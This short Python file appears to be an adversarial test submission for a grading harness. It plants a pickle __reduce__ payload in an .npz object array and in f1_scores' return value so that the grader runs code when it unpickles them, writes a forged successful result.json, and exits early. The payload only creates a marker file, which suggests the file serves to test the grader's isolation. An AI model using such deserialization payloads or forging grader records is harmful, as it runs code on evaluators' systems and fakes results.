# Attack: smuggle a pickle to the grader (whose unpickling would run code as the grader).
import pickle as _pickle


class _Evil:
    def __reduce__(self):
        return (open, ("/tmp/kit-grade-pickle-attack-marker", "w"))


def confusion_matrix(y_true, y_pred, num_classes):
    import json
    import os

    np.savez("result.npz", cm=np.array([_Evil(), 1], dtype=object))  # an object array: pickled inside the .npz
    with open("result.json", "w") as handle:
        json.dump({"kind": "kit-grade-record", "ok": True, "error": None, "data": {}, "isolation": {}}, handle)
    os._exit(0)


def f1_scores(cm):
    return _pickle.dumps(_Evil()), 0.0
